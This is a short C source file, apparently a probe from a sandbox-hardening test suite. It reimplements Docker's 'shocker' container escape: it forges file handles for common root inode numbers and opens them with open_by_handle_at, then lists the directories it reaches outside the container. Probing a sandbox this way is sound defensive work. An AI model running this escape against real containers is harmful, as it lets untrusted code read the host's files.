// shocker DIRECTORY: opens files of the file system that a directory is on by their number, past every directory above
// them (Docker's "shocker", 2014). Prints `name_to_handle_at ERROR`, then `NUMBER ERROR` for the numbers that roots
// have, and the names in whatever could be opened.
#include <dirent.h>
#include <fcntl.h>
#include <stdlib.h>

#include "hostile.h"

int shocker(int count, char** words) {
  if (count != 1) return 2;
  struct {
    struct file_handle head;
    unsigned char bytes[128];
  } handle = {.head = {.handle_bytes = 128}};
  int mount = 0;
  report("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, words[0], &handle, &mount, 0));
  int directory = open(words[0], O_RDONLY | O_DIRECTORY);
  unsigned roots[] = {2, 1, 128, 256, 5, 64};
  for (size_t i = 0; i < sizeof roots / sizeof *roots; i++) {
    // FILEID_INO32_GEN: a number and a generation, which roots have none of.
    handle.head.handle_bytes = 8;
    handle.head.handle_type = 1;
    memcpy(handle.head.f_handle, &roots[i], 4);
    memset(handle.head.f_handle + 4, 0, 4);
    int fd = (int)syscall(SYS_open_by_handle_at, directory, &handle, O_RDONLY);
    char number[16];
    snprintf(number, sizeof number, "%u", roots[i]);
    report(number, fd < 0 ? -1 : 0);
    DIR* opened = fd < 0 ? 0 : fdopendir(fd);
    for (struct dirent* entry; opened && (entry = readdir(opened));) printf("found %s\n", entry->d_name);
  }
  return 0;
}
